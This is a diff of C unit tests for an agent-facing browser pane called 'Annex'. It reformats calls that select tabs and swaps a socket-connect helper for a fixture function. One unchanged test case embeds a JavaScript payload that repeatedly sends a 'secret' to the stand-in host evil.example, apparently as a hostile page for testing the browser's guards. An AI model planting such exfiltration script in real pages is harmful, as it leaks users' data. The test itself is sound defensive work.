@@ -65,8 +65,8 @@ test_reading (gconstpointer data)
   g_autofree char *page = open_page (c);
   AnnexBrowserTab *opener = front (c);
   AnnexBrowserTab *window;
-  g_autofree char *input = g_strdup_printf ("{\"action\":\"select\",\"index\":%u}",
-                                            annex_browser_tab_get_id (opener));
+  g_autofree char *input =
+      g_strdup_printf ("{\"action\":\"select\",\"index\":%u}", annex_browser_tab_get_id (opener));
   g_autofree char *seen = NULL;
   g_autofree char *again = NULL;
   g_autofree char *after = NULL;
@@ -121,8 +121,8 @@ test_own_window (void)
     }
   found = call (c, "page_find", "{\"text\":\"1234\"}");
   HAS_NOT (found, "Balance");
-  input = g_strdup_printf ("{\"action\":\"select\",\"index\":%u}",
-                           annex_browser_tab_get_id (window));
+  input =
+      g_strdup_printf ("{\"action\":\"select\",\"index\":%u}", annex_browser_tab_get_id (window));
   call_fails (c, "page_tabs", input, ANNEX_BROWSER_ERROR_REFUSED);
   /* Nor does it come to the front by itself. */
   g_clear_pointer (&seen, g_free);
@@ -197,19 +197,6 @@ test_guard_of_a_window (void)
   g_assert_cmpstr (pane_fixture_row (c->pane, "evil.example")->by, ==, "user");
 }
 
-static DexFuture *
-port_cb (guint port, gpointer data)
-{
-  PaneFixture *self = data;
-  g_autoptr (GSocketClient) client = g_socket_client_new ();
-  GError *error = NULL;
-  GSocketConnection *connection =
-      g_socket_client_connect_to_host (client, "127.0.0.1", self->port, NULL, &error);
-
-  g_assert_no_error (error);
-  return dex_future_new_take_object (connection);
-}
-
 static Case *
 new_computer_case (void)
 {
@@ -225,7 +212,7 @@ new_computer_case (void)
                      "setInterval(() => { new Image().src = 'http://evil.example/x?secret' }, 50);"
                      "setTimeout(() => { location = 'http://evil.example/x?secret' }, 300)"
                      "</script>");
-  annex_browser_pane_set_computer_ports (c->pane->pane, port_cb, c->pane, NULL);
+  pane_fixture_serve_computer (c->pane);
   return c;
 }
 
